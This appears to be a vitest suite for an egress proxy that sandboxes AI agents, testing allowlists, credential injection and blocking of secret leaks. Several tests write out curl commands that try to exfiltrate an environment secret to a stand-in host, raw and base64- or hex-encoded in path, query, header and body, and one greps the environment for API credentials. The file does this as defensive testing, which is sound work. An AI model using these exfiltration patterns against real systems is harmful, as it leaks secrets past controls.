import { spawnSync } from "node:child_process";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, test } from "vitest";
import { describeOnEach } from "../world/backend-kinds.ts";
import { run } from "../world/docker-cli.ts";
import { startSession } from "../world/session.ts";
import { createWorld } from "../world/world.ts";

describeOnEach("what leaves a bottle", { timeout: 300_000 }, (backend) => {
  test("F21 F35 F36 F38 F39 F40 one route each for path, method and credential; everything else is refused with a reason", async () => {
    const secret = "basic-user:basic-password-42";
    await using world = await createWorld({
      backend,
      hosts: ["api.example.test", "files.example.test", "git.example.test", "other.example.test"],
      env: { ONE: "first-token-abcdefgh", TWO: secret },
    });
    await world.bottle(
      "b",
      `
egress: { pipelock: false, allowlist: ["*.example.net", files.example.test] }
egress_proxy:
  routes:
    - { host: api.example.test, path_allowlist: [/v1], methods: [GET], auth: { scheme: "header:x-api-key", token_ref: ONE } }
    - { host: git.example.test, auth: { scheme: Basic, token_ref: TWO } }`,
    );
    await world.agent("a", "bottle: b");
    const status = "curl -sS -o /tmp/body -w '%{http_code} ' ";

    const ended = await world.shell(
      "a",
      `
${status} https://api.example.test/v1/x
${status} https://api.example.test/v1/../v2; grep -o 'path' /tmp/body | head -1
${status} https://api.example.test/v1x
${status} -X POST https://api.example.test/v1/x; grep -o 'method' /tmp/body | head -1
${status} https://files.example.test/anything
${status} https://other.example.test/; grep -o 'other.example.test' /tmp/body | head -1
${status} -H 'X-Api-Key: mine' https://api.example.test/v1/own
${status} https://git.example.test/echo; cat /tmp/body; echo
${status} -X POST https://git.example.test/r.git/git-receive-pack
${status} 'https://files.example.test/r.git/info/refs?service=git-receive-pack'
git clone -q https://git.example.test/repo.git 2>&1 | tail -1
git push https://files.example.test/repo.git HEAD:main 2>&1 | tail -3`,
    );

    expect(ended.stdout.replaceAll(/\s+/g, " ")).toMatch(
      /^200 403 path 403 403 method 200 403 other\.example\.test 200 200 \{.*\} 403 403 /,
    );
    expect(ended.stdout).not.toContain(Buffer.from(secret).toString("base64"));
    expect(ended.stdout).not.toContain("basic-password-42");
    const requests = await world.sink.requests();
    expect(requests.filter((request) => request.url.includes("receive-pack"))).toEqual([]);
    const own = requests.find((request) => request.url === "/v1/own");
    expect(own?.headers.filter((value) => value === "first-token-abcdefgh")).toHaveLength(1);
    expect(own?.headers).not.toContain("mine");
    expect(requests.find((request) => request.url === "/echo")?.headers).toContain(
      `Basic ${Buffer.from(secret).toString("base64")}`,
    );
  });

  test("F22 F23 B45 the bottle's own secret is stopped in path, query, header and body, raw and encoded, and logged without its value", async () => {
    const canary = "known-canary-9f8e7d6c5b4a";
    await using world = await createWorld({
      backend,
      hosts: ["api.example.test", "files.example.test"],
      env: { KNOWN: canary, HOST_VALUE: "host-canary-1234567890" },
    });
    await world.bottle(
      "b",
      `
env: { GIVEN: "\${HOST_VALUE}" }
egress: { pipelock: false, allowlist: [files.example.test] }
egress_proxy:
  routes: [{ host: api.example.test, auth: { scheme: Bearer, token_ref: KNOWN } }]`,
    );
    await world.agent("a", "bottle: b");
    const form = (encode: string): string =>
      `python3 -c "import os,base64;v=os.environ['GIVEN'];print(${encode},end='')"`;
    const send = "curl -sS -o /dev/null -w '%{http_code} '";
    await using session = await startSession(world, "a");
    const printed = await session.run(`
raw="$GIVEN"; b64=$(${form("base64.b64encode(('ab'+v+'c').encode()).decode()")}); hex=$(${form("v.encode().hex()")})
${send} https://files.example.test/p/$raw
${send} "https://files.example.test/?q=$raw"
${send} -H "X-Note: $raw" https://files.example.test/
${send} -d "some text $raw and more" https://files.example.test/
${send} -d "{\\"a\\": \\"$b64\\"}" https://files.example.test/
${send} -H 'Transfer-Encoding: chunked' -d "$hex" https://files.example.test/
${send} -d "const token = getToken(); // AKIA is a prefix" https://files.example.test/fine
${send} https://files.example.test/plain`);
    const logged = await world.cli(["logs", session.identity, "egress-proxy"]);

    expect(printed).toBe("403 403 403 403 403 403 200 200 ");
    const requests = await world.sink.requests();
    const everything = JSON.stringify(
      requests.map((request) => [request.url, request.headers, request.body.toString("utf8")]),
    );
    expect(everything).not.toContain("host-canary-1234567890");
    expect(
      requests
        .filter((request) => request.body.length > 0 && request.url !== "/fine")
        .map((request) => request.body.toString()),
    ).toEqual([]);
    expect(logged.stdout.match(/ egress-proxy {2}DENY /g)?.length).toBe(6);
    for (const value of [canary, "host-canary-1234567890"])
      expect(logged.stdout + logged.stderr).not.toContain(value);
  });

  test("F22 with dlp_action warn the same body is forwarded and the warning is logged", async () => {
    await using world = await createWorld({ backend, env: { HOST_VALUE: "host-canary-1234567890" } });
    await world.bottle(
      "b",
      `env: { GIVEN: "\${HOST_VALUE}" }\negress: { pipelock: false, dlp_action: warn, allowlist: [api.example.test] }\negress_proxy: { routes: [] }`,
    );
    await world.agent("a", "bottle: b");
    await using session = await startSession(world, "a");
    const printed = await session.run(
      `curl -sS -o /dev/null -w '%{http_code}' -d "$GIVEN" https://api.example.test/`,
    );
    const logged = await world.cli(["logs", session.identity, "egress-proxy"]);

    expect(printed).toBe("200");
    expect(
      (await world.sink.requests()).some((request) => request.body.toString() === "host-canary-1234567890"),
    ).toBe(true);
    expect(logged.stdout).toContain("egress-proxy  WARN   POST api.example.test/");
    expect(logged.stdout).not.toContain("host-canary");
  });

  // Without an image the clients are whatever the machine has
  test.skipIf(backend === "local")(
    "F25 curl, git, npm, pip, node, python and go reach an allowed host without DNS of their own",
    async () => {
      const stage = await mkdtemp(join(tmpdir(), "cb-clients-"));
      const sh = async (script: string): Promise<void> => {
        const { code, stderr } = await run("sh", ["-ec", script], { cwd: stage, env: process.env });
        if (code !== 0) throw new Error(stderr);
      };
      await sh(`
mkdir repo && cd repo && git init -q -b main && echo hi > a && git add a && git -c user.name=t -c user.email=t@t commit -qm one && cd ..
git clone -q --bare repo served.git && git -C served.git update-server-info
mkdir -p package && echo '{"name":"tiny","version":"1.0.0"}' > package/package.json && tar czf tiny.tgz package
mkdir -p pip/tinypip-1.0 && printf 'from setuptools import setup\\nsetup(name="tinypip",version="1.0",py_modules=[])\\n' > pip/tinypip-1.0/setup.py
(cd pip && python3 - <<'P'
import zipfile
with zipfile.ZipFile("tinypip-1.0-py3-none-any.whl", "w") as z:
    z.writestr("tinypip.py", "x = 1\\n")
    z.writestr("tinypip-1.0.dist-info/METADATA", "Metadata-Version: 2.1\\nName: tinypip\\nVersion: 1.0\\n")
    z.writestr("tinypip-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\\nGenerator: t\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
    z.writestr("tinypip-1.0.dist-info/RECORD", "")
P
)`);
      const tiny = await readFile(join(stage, "tiny.tgz"));
      const files: Record<string, { type: string; data: string | Buffer }> = {
        "/tiny": {
          type: "application/json",
          data: JSON.stringify({
            name: "tiny",
            "dist-tags": { latest: "1.0.0" },
            versions: {
              "1.0.0": {
                name: "tiny",
                version: "1.0.0",
                dist: { tarball: "https://api.example.test/tiny.tgz" },
              },
            },
          }),
        },
        "/tiny.tgz": { type: "application/octet-stream", data: tiny },
        "/simple/tinypip/": {
          type: "text/html",
          data: '<a href="/tinypip-1.0-py3-none-any.whl">tinypip-1.0-py3-none-any.whl</a>',
        },
        "/tinypip-1.0-py3-none-any.whl": {
          type: "application/octet-stream",
          data: await readFile(join(stage, "pip/tinypip-1.0-py3-none-any.whl")),
        },
      };
      const list = await run("sh", ["-c", "cd served.git && find . -type f"], {
        cwd: stage,
        env: process.env,
      });
      for (const name of list.stdout.trim().split("\n")) {
        files[`/served.git/${name.slice(2)}`] = {
          type: "application/octet-stream",
          data: await readFile(join(stage, "served.git", name)),
        };
      }
      const go = spawnSync("go", ["version"]).status === 0;
      if (!go)
        process.stdout.write("skipped: the go client of F25: no go on this machine to build it with\n");
      await using world = await createWorld({ backend, files });
      if (go) {
        await writeFile(
          join(stage, "main.go"),
          `package main\nimport ("fmt";"net/http")\nfunc main(){r,e:=http.Get("https://api.example.test/from-go");if e!=nil{fmt.Println(e);return};fmt.Println("go",r.StatusCode)}\n`,
        );
        await sh(`CGO_ENABLED=0 go build -o ${world.cwd}/go-client main.go`);
      }
      await rm(stage, { recursive: true, force: true });
      await world.bottle(
        "b",
        "egress: { pipelock: false, allowlist: [api.example.test] }\negress_proxy: { routes: [] }",
      );
      await world.agent("a", "bottle: b");

      const ended = await world.shell(
        "a",
        `
cd /tmp
curl -sS -o /dev/null -w 'curl %{http_code}\\n' https://api.example.test/from-curl
git clone -q https://api.example.test/served.git && cat served/a
npm install --silent --no-fund --no-audit --registry https://api.example.test/ --prefix /tmp/n tiny && ls /tmp/n/node_modules
pip download -q --no-deps -d /tmp/p -i https://api.example.test/simple tinypip && ls /tmp/p
node -e 'fetch("https://api.example.test/from-node").then(r=>console.log("node",r.status),e=>console.log(e))'
python3 -c 'import urllib.request as u; print("urllib", u.urlopen("https://api.example.test/from-urllib").status)'
python3 -c 'import requests; print("requests", requests.get("https://api.example.test/from-requests").status_code)'
[ ! -e ~/work/go-client ] || ~/work/go-client`,
        { flags: ["--cwd"] },
      );

      expect(ended.stdout).toBe(
        `curl 200\nhi\ntiny\ntinypip-1.0-py3-none-any.whl\nnode 200\nurllib 200\nrequests 200\n${go ? "go 200\n" : ""}`,
      );
    },
  );

  test("F26 a long model conversation with code, word lists and base64 images is neither refused nor held back", async () => {
    await using world = await createWorld({
      backend,
      hosts: ["api.anthropic.com"],
      env: { KEY: "model-token-0123456789" },
    });
    await world.bottle(
      "b",
      "egress: { pipelock: false }\negress_proxy:\n  routes: [{ host: api.anthropic.com, auth: { scheme: Bearer, token_ref: KEY } }]",
    );
    await world.agent("a", "bottle: b");

    const ended = await world.shell(
      "a",
      `
python3 - <<'P' > /tmp/body
import json, random, base64
random.seed(7)
words = ["abandon","ability","able","about","above","absent","absorb","abstract","absurd","abuse","access","accident"]
code = "\\n".join("token = getToken(%d)\\nconst secret%d = process.env.SECRET // CanvasRenderingContext2D\\n-----BEGIN RSA PRIVATE KEY----- in a test name" % (i, i) for i in range(20000))
image = base64.b64encode(bytes(random.randrange(256) for _ in range(1500000))).decode()
print(json.dumps({"model":"m","stream":True,"messages":[{"role":"user","content":code+"\\n".join(random.choice(words) for _ in range(50000))+image}]}))
P
wc -c < /tmp/body
curl -sS -o /tmp/answer -w '%{http_code}\\n' --data-binary @/tmp/body https://api.anthropic.com/v1/messages; grep -c '^event:' /tmp/answer
curl -sSN --max-time 30 https://api.anthropic.com/sse | { read -r first; curl -sS https://api.anthropic.com/release; echo "$first"; grep data; }`,
    );

    const [size, status, events, ...stream] = ended.stdout.trim().split("\n");
    expect(Number(size)).toBeGreaterThan(3_000_000);
    expect([status, events]).toEqual(["200", "6"]);
    expect(stream).toEqual(["released", "data: 0", "data: 1", "data: 2"]);
    expect((await world.sink.requests())[0]?.body.length).toBe(Number(size));
  });

  test("F42 without a route for the model API the agent has no Anthropic credential of any kind; with one it has a placeholder", async () => {
    await using world = await createWorld({
      backend,
      hosts: ["api.anthropic.com"],
      env: {
        KEY: "model-token-0123456789",
        ANTHROPIC_API_KEY: "host-key-must-not-leak",
        CLAUDE_CODE_OAUTH_TOKEN: "host-token-must-not-leak",
      },
    });
    await world.bottle("without", "egress: { pipelock: false }\negress_proxy: { routes: [] }");
    await world.bottle(
      "with",
      "egress: { pipelock: false }\negress_proxy:\n  routes: [{ host: api.anthropic.com, auth: { scheme: Bearer, token_ref: KEY } }]",
    );
    await world.agent("a", "bottle: without");
    await world.agent("b", "bottle: with");
    const script = "env | grep -E 'ANTHROPIC|CLAUDE_CODE' | sort; true";

    const [without, withRoute] = await Promise.all([
      world.shell("a", script),
      world.shell("b", `${script}; curl -sS https://api.anthropic.com/echo`),
    ]);

    expect(without.stdout).not.toMatch(/TOKEN|KEY/);
    expect(withRoute.stdout).toMatch(/^CLAUDE_CODE_OAUTH_TOKEN=/m);
    expect(withRoute.stdout).toMatch(/^CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1$/m);
    for (const value of ["model-token-0123456789", "host-key-must-not-leak", "host-token-must-not-leak"]) {
      expect(without.stdout + withRoute.stdout).not.toContain(value);
    }
    expect((await world.sink.requests()).at(-1)?.headers).toContain("Bearer model-token-0123456789");
  });
});
